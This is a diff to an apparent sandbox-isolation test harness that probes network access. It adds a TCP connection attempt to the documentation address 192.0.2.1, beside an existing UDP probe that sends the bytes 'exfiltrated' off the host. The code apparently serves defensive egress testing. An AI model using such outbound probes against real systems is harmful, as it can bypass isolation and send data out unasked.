@@ -33,6 +33,11 @@ def tcp(port):
         return "connected"
 
 
+def tcp_to(host, port):
+    with socket.create_connection((host, port), timeout=5):
+        return "connected"
+
+
 def udp(host, port):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         return s.sendto(b"exfiltrated", (host, port))
@@ -71,6 +76,7 @@ def attack(t):
         "tcp": outcome(lambda: tcp(t["tcp_port"])),
         "udp": outcome(lambda: udp("127.0.0.1", t["udp_port"])),
         "udp_out": outcome(lambda: udp("192.0.2.1", 53)),  # TEST-NET-1: off this host
+        "tcp_out": outcome(lambda: tcp_to("192.0.2.1", 443)),
         "raw": outcome(raw),
         "netlink": outcome(lambda: family("AF_NETLINK")),
         "packet": outcome(lambda: family("AF_PACKET")),
